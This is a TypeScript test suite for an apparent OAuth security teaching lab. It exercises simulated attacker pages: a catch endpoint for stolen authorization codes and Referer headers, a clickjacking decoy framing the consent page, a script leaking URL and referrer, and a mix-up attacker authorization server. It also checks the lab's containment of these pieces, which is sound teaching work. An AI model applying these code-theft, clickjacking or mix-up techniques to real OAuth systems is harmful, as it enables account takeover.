import { describe, expect, it } from 'vitest';
import { createAuthServer, createSiteAuthServer } from '../../src/authserver';
import { withAttacker } from '../../src/authserver/attacker';
import { attackerSite } from '../../src/authserver/attacker/origin';
import { ATTACKER_AS, ATTACKER_PAGES, CLIENT_PAGES, ENDPOINTS } from '../../src/authserver/paths';
import { USERS } from '../../src/authserver/seed';
import { approvedConsentForm, consentFormFields, readJson } from './helpers';

const LAB = 'http://localhost:4420';
const ATTACKER = 'http://127.0.0.1:4420';
const site = createSiteAuthServer([LAB, ATTACKER]);
const mallory = USERS.find((user) => user.username === 'mallory')!;

const get = (url: string, headers: Record<string, string> = {}) => site.handle(new Request(url, { headers }));

async function learnerCookie(): Promise<string> {
  return (await get(`${LAB}${ENDPOINTS.labTrace}`)).headers.get('set-cookie')!.split(';')[0]!;
}

/** Signs in on the lab's consent page and approves; returns the redirect. */
async function approve(params: Record<string, string>, username: string, password: string, cookie: string): Promise<Response> {
  const page = await get(`${LAB}${ENDPOINTS.authorize}?${new URLSearchParams(params)}`, { cookie });
  expect(page.status).toBe(200);
  const form = await consentFormFields(page);
  form.set('username', username);
  form.set('password', password);
  form.set('decision', 'approve');
  return site.handle(
    new Request(`${LAB}${ENDPOINTS.authorize}`, {
      method: 'POST',
      body: form,
      headers: { cookie, 'content-type': 'application/x-www-form-urlencoded', 'sec-fetch-site': 'same-origin' },
    }),
  );
}

describe('the attacker’s pages, only on the attacker’s origin', () => {
  it('catches whatever arrives at /attacker/catch and shows it escaped, with the Referer', async () => {
    const page = await get(`${ATTACKER}${ATTACKER_PAGES.catch}?code=abc&state=%3Cb%3E`, { referer: `${LAB}${CLIENT_PAGES.callback}?code=abc` });
    expect(page.status).toBe(200);
    const html = await page.text();
    expect(html).toContain('<code>abc</code>');
    expect(html).toContain('&#60;b&#62;');
    expect(html).not.toContain('<b>');
    expect(html).toContain(`${LAB}${CLIENT_PAGES.callback}?code=abc`);
    expect(html).toContain(`data-lab="${LAB}"`);
    const policy = page.headers.get('content-security-policy')!;
    expect(policy).toContain(`frame-ancestors 'self' ${LAB}`);
    expect(policy).toMatch(/script-src 'sha256-[^']+' 'sha256-[^']+'/);
    expect(page.headers.get('cache-control')).toBe('no-store');
  });

  it('frames only the lab’s authorization endpoint in the decoy, and nothing else', async () => {
    const target = `${LAB}${ENDPOINTS.authorize}?client_id=prize-draw`;
    const page = await get(`${ATTACKER}${ATTACKER_PAGES.decoy}?${new URLSearchParams({ target })}`);
    expect(page.status).toBe(200);
    const html = await page.text();
    // Scrolled to the consent page's buttons, so its Approve sits under the prize button.
    expect(html).toContain(`src="${LAB}${ENDPOINTS.authorize}?client_id=prize-draw#decision"`);
    expect(html).toContain('<button type="button" class="primary prize">Claim your prize</button>');
    expect(page.headers.get('content-security-policy')).toContain(`frame-src 'self' ${LAB}`);
    for (const bad of [`${ATTACKER}${ENDPOINTS.authorize}`, `${LAB}/server/`, 'https://elsewhere.example/oauth/authorize', 'not a url']) {
      expect((await get(`${ATTACKER}${ATTACKER_PAGES.decoy}?${new URLSearchParams({ target: bad })}`)).status).toBe(400);
    }
    expect((await get(`${ATTACKER}${ATTACKER_PAGES.decoy}`)).status).toBe(400);
  });

  it('serves the third-party script, which hands what it reads to the including page’s own top window', async () => {
    const script = await get(`${ATTACKER}${ATTACKER_PAGES.script}`, { referer: `${LAB}${CLIENT_PAGES.widgetCallback}?code=c"</script>` });
    expect(script.status).toBe(200);
    expect(script.headers.get('content-type')).toBe('text/javascript; charset=utf-8');
    const source = await script.text();
    expect(source).toContain('postMessage({type:\'osl:attacker-leak\',href:location.href,referrer:document.referrer,referer:referer},location.origin)');
    // The Referer the request arrived with, as a string literal (quotes escaped).
    expect(source).toContain(`var referer=${JSON.stringify(`${LAB}${CLIENT_PAGES.widgetCallback}?code=c"</script>`)};`);
  });

  it('answers none of them on the lab’s own origin, and only GET on the attacker’s', async () => {
    for (const path of Object.values(ATTACKER_PAGES)) {
      const response = await get(`${LAB}${path}`);
      expect(response.status).toBe(404);
      expect((await readJson(response)).error).toBe('invalid_request');
    }
    expect((await site.handle(new Request(`${ATTACKER}${ATTACKER_PAGES.catch}`, { method: 'POST', body: 'x' }))).status).toBe(405);
  });

  it('has no attacker origin when the site has one origin only (PUBLIC_ORIGIN)', async () => {
    const single = createSiteAuthServer(['https://lab.example.org']);
    expect((await single.handle(new Request(`https://lab.example.org${ATTACKER_PAGES.catch}`))).status).toBe(404);
    expect((await single.handle(new Request(`https://lab.example.org${ATTACKER_AS.metadata}`))).status).toBe(404);
  });
});

describe('the attacker’s account and clients', () => {
  it('lets mallory sign in with the password from the seed and call the API as mallory', async () => {
    const cookie = await learnerCookie();
    const redirect_uri = 'com.example.nativeapp:/callback';
    const verifier = 'm'.repeat(43);
    const decided = await approve(
      { response_type: 'code', client_id: 'photo-saver', redirect_uri, scope: 'profile photos.read', state: 's', code_challenge: verifier, code_challenge_method: 'plain' },
      mallory.username,
      mallory.password,
      cookie,
    );
    const code = new URL(decided.headers.get('location')!).searchParams.get('code')!;
    const token = await site.handle(
      new Request(`${LAB}${ENDPOINTS.token}`, {
        method: 'POST',
        body: new URLSearchParams({ grant_type: 'authorization_code', code, redirect_uri, client_id: 'photo-saver', code_verifier: verifier }),
        headers: { cookie, 'content-type': 'application/x-www-form-urlencoded' },
      }),
    );
    expect(token.status).toBe(200);
    const me = await get(`${LAB}${ENDPOINTS.apiMe}`, { cookie, authorization: `Bearer ${(await readJson(token)).access_token as string}` });
    expect(await readJson(me)).toMatchObject({ sub: 'mallory', name: mallory.name });
  });

  it('sends the code of the attacker’s own app to the attacker’s page on the other loopback name', async () => {
    const cookie = await learnerCookie();
    const decided = await approve(
      { response_type: 'code', client_id: 'prize-draw', redirect_uri: `${ATTACKER}${ATTACKER_PAGES.catch}`, scope: 'photos.read', state: 's', code_challenge: 'p'.repeat(43) },
      'alice',
      'wonderland',
      cookie,
    );
    expect(decided.status).toBe(302);
    const location = new URL(decided.headers.get('location')!);
    expect(`${location.origin}${location.pathname}`).toBe(`${ATTACKER}${ATTACKER_PAGES.catch}`);
    expect(location.searchParams.get('code')).toBeTruthy();
  });
});

describe('the attacker’s authorization server (mix-up, RFC 9207, RFC 9700 §4.4)', () => {
  it('publishes its own metadata under its own issuer, where RFC 8414 §3.1 puts it', async () => {
    const response = await get(`${ATTACKER}${ATTACKER_AS.metadata}`);
    expect(response.status).toBe(200);
    const metadata = await readJson(response);
    expect(metadata).toMatchObject({
      issuer: `${ATTACKER}${ATTACKER_AS.base}`,
      authorization_endpoint: `${ATTACKER}${ATTACKER_AS.base}${ENDPOINTS.authorize}`,
      token_endpoint: `${ATTACKER}${ATTACKER_AS.base}${ENDPOINTS.token}`,
      authorization_response_iss_parameter_supported: true,
    });
    const labMetadata = await readJson(await get(`${LAB}${ENDPOINTS.metadata}`));
    expect(labMetadata.issuer).toBe(LAB);
    // Its own keys.
    const theirs = (await readJson(await get(`${ATTACKER}${ATTACKER_AS.base}${ENDPOINTS.jwks}`))) as { keys: { kid: string }[] };
    const ours = (await readJson(await get(`${LAB}${ENDPOINTS.jwks}`))) as { keys: { kid: string }[] };
    expect(theirs.keys.map((k) => k.kid)).not.toEqual(ours.keys.map((k) => k.kid));
    expect((await get(`${LAB}${ATTACKER_AS.metadata}`)).status).toBe(404);
    expect((await get(`${LAB}${ATTACKER_AS.base}${ENDPOINTS.metadata}`)).status).toBe(404);
  });

  it('sends the user on to the honest server’s authorization endpoint with every parameter as it came', async () => {
    const query = new URLSearchParams({ response_type: 'code', client_id: 'web-app', redirect_uri: `${LAB}${CLIENT_PAGES.callback}`, state: 'st', scope: 'profile' });
    const bounced = await get(`${ATTACKER}${ATTACKER_AS.base}${ENDPOINTS.authorize}?${query}`, { cookie: await learnerCookie() });
    expect(bounced.status).toBe(302);
    expect(bounced.headers.get('location')).toBe(`${LAB}${ENDPOINTS.authorize}?${query}`);
    expect(bounced.headers.get('set-cookie')).toBeNull();
  });

  it('receives a code the honest server issued, and cannot redeem it: the stores are apart', async () => {
    const cookie = await learnerCookie();
    const decided = await approve(
      { response_type: 'code', client_id: 'web-app', redirect_uri: `${LAB}${CLIENT_PAGES.callback}`, scope: 'profile', state: 's' },
      'alice',
      'wonderland',
      cookie,
    );
    const location = new URL(decided.headers.get('location')!);
    expect(location.searchParams.get('iss')).toBe(LAB);
    const code = location.searchParams.get('code')!;
    const body = new URLSearchParams({ grant_type: 'authorization_code', code, redirect_uri: `${LAB}${CLIENT_PAGES.callback}`, client_id: 'web-app', client_secret: 'web-app-secret' });
    const atAttacker = await site.handle(
      new Request(`${ATTACKER}${ATTACKER_AS.base}${ENDPOINTS.token}`, { method: 'POST', body, headers: { cookie, 'content-type': 'application/x-www-form-urlencoded' } }),
    );
    expect(atAttacker.status).toBe(400);
    expect((await readJson(atAttacker)).error).toBe('invalid_grant');
    expect(atAttacker.headers.get('access-control-allow-origin')).toBe('*');
    // The honest server still redeems it: the attacker's endpoint consumed nothing.
    const atLab = await site.handle(new Request(`${LAB}${ENDPOINTS.token}`, { method: 'POST', body, headers: { cookie, 'content-type': 'application/x-www-form-urlencoded' } }));
    expect(atLab.status).toBe(200);
  });

  it('passes a learner’s frame ticket on, so the honest server knows the learner a cross-site redirect left without its cookie', async () => {
    const cookie = await learnerCookie();
    const other = await learnerCookie();
    const ticketAnswer = await site.handle(new Request(`${LAB}${ENDPOINTS.labFrameTicket}`, { method: 'POST', headers: { cookie } }));
    const { ticket, parameter } = (await readJson(ticketAnswer)) as { ticket: string; parameter: string };
    const verifier = 'v'.repeat(43);
    const query = new URLSearchParams({
      response_type: 'code', client_id: 'spa', redirect_uri: `${LAB}${CLIENT_PAGES.callback}`, scope: 'profile', state: 's',
      code_challenge: verifier, code_challenge_method: 'plain', [parameter]: ticket,
    });
    const bounced = await get(`${ATTACKER}${ATTACKER_AS.base}${ENDPOINTS.authorize}?${query}`);
    // The browser arrives at the honest server without the learner cookie: the ticket names the learner.
    const page = await get(bounced.headers.get('location')!);
    expect(page.status).toBe(200);
    expect(page.headers.get('set-cookie')).toBeNull();
    // The consent page's form carries a post ticket of its own (the page ticket opens GETs only).
    const { action, form } = await approvedConsentForm(page);
    const decided = await site.handle(
      new Request(new URL(action, LAB), {
        method: 'POST', body: form, headers: { 'content-type': 'application/x-www-form-urlencoded', 'sec-fetch-site': 'same-origin' },
      }),
    );
    const location = new URL(decided.headers.get('location')!);
    expect(location.searchParams.get('iss')).toBe(LAB);
    const body = new URLSearchParams({ grant_type: 'authorization_code', code: location.searchParams.get('code')!, redirect_uri: `${LAB}${CLIENT_PAGES.callback}`, client_id: 'spa', code_verifier: verifier });
    const redeem = (headers: Record<string, string>) =>
      site.handle(new Request(`${LAB}${ENDPOINTS.token}`, { method: 'POST', body, headers: { 'content-type': 'application/x-www-form-urlencoded', ...headers } }));
    // The code lives in that learner's namespace only: no other learner, and no cookie at all, redeems it.
    expect((await readJson(await redeem({ cookie: other }))).error).toBe('invalid_grant');
    expect((await readJson(await redeem({}))).error).toBe('invalid_grant');
    expect((await redeem({ cookie })).status).toBe(200);
  });
});

describe('the attacker on the lab’s own origin, below /attacker-site (the static site’s Service Worker)', () => {
  const BASE = '/oauth-lab';
  const attacker = attackerSite('browser', LAB, BASE);
  const lab = `${LAB}${BASE}`;
  const oneOrigin = withAttacker(createAuthServer({ origins: [LAB], basePath: BASE }), attacker);
  const at = (url: string, headers: Record<string, string> = {}) => oneOrigin.handle(new Request(url, { headers }));

  it('serves the attacker’s pages below its path, framed only by the lab’s origin', async () => {
    const page = await at(`${attacker.root}${ATTACKER_PAGES.catch}?code=abc`);
    expect(page.status).toBe(200);
    expect(await page.text()).toContain(`data-lab="${LAB}"`);
    expect(page.headers.get('content-security-policy')).toContain(`frame-ancestors 'self' ${LAB}`);
    expect((await at(`${attacker.root}${ATTACKER_PAGES.script}`)).headers.get('content-type')).toBe('text/javascript; charset=utf-8');
  });

  it('runs the attacker’s authorization server under its own issuer there, apart from the lab’s', async () => {
    const metadata = await readJson(await at(`${attacker.root}${ATTACKER_AS.metadata}`));
    expect(metadata).toMatchObject({
      issuer: `${attacker.root}${ATTACKER_AS.base}`,
      token_endpoint: `${attacker.root}${ATTACKER_AS.base}${ENDPOINTS.token}`,
    });
    expect((await readJson(await at(`${lab}${ENDPOINTS.metadata}`))).issuer).toBe(lab);
    // The mix-up's bounce goes on to the honest server's authorization endpoint, below the site's base.
    const query = new URLSearchParams({ response_type: 'code', client_id: 'web-app', state: 'st' });
    const bounced = await at(`${attacker.root}${ATTACKER_AS.base}${ENDPOINTS.authorize}?${query}`);
    expect(bounced.status).toBe(302);
    expect(bounced.headers.get('location')).toBe(`${lab}${ENDPOINTS.authorize}?${query}`);
  });

  it('answers none of the attacker’s paths outside its path: they are the lab’s, which has no such route', async () => {
    for (const url of [`${lab}${ATTACKER_PAGES.catch}`, `${LAB}${ATTACKER_PAGES.catch}`, `${lab}${ATTACKER_AS.metadata}`]) {
      expect((await at(url)).status, url).toBe(404);
    }
  });
});
